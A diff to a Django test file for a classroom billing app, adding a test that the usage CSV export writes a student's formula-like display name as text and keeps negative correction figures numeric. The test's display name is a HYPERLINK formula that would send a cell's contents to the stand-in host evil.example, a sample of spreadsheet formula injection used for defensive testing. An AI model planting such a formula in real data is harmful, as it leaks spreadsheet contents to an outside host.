@@ -14,7 +14,7 @@ from django.urls import reverse
 
 from apps.billing.models import QuotaPolicy, SiteBillingSettings, StudentOverride
 from apps.billing.selectors import site_billing_settings_forget
-from apps.billing.services import usage_rollup
+from apps.billing.services import ledger_correct, usage_rollup
 from apps.providers.models import ChatModel
 from tests.billing.conftest import policy_set, settle, take
 from tests.conftest import People
@@ -130,6 +130,27 @@ def test_csv_export_has_every_ledger_row_of_the_range(people: People, teacher: C
     assert (mine["prompt_tokens"], mine["completion_tokens"], mine["total_tokens"]) == ("1000", "500", "1500")
     assert Decimal(mine["cost_billing"]) == Decimal("0.006") and mine["billing_currency"] == "CNY"
     assert teacher.get(reverse("class-usage-csv", args=[people.classroom.pk]), {"end": "bad"}).status_code == 400
+
+
+def test_csv_export_writes_a_formula_in_a_name_as_text_and_negative_numbers_as_numbers(
+    people: People, teacher: Client, fake_model: ChatModel
+) -> None:
+    """A student picks their own display name; opened in a spreadsheet, `=HYPERLINK(...)`
+    would run as a formula in the teacher's sheet. It is written with a leading apostrophe
+    (shown as text); a correction's negative figures stay numbers."""
+    people.student.display_name = '=HYPERLINK("http://evil.example/?"&B2,"open")'
+    people.student.save()
+    policy_set(people.classroom)
+    with time_machine.travel(datetime(2026, 3, 3, 2, 0, tzinfo=UTC), tick=False):
+        entry = settle(take(people.student, people.classroom, fake_model), 100, 50)
+        ledger_correct(entry=entry, prompt_tokens=0, completion_tokens=-5, cost_billing=Decimal("-0.00004"), note="x")
+    response = teacher.get(
+        reverse("class-usage-csv", args=[people.classroom.pk]), {"start": "2026-03-03", "end": "2026-03-03"}
+    )
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert {row["display_name"] for row in rows} == {"'" + people.student.display_name}
+    correction = next(row for row in rows if row["completion_tokens"] == "-5")
+    assert Decimal(correction["cost_billing"]) == Decimal("-0.00004")  # no apostrophe: a number
 
 
 def test_student_sees_the_quota_meter_and_reply_costs(people: People, client: Client, fake_model: ChatModel) -> None:
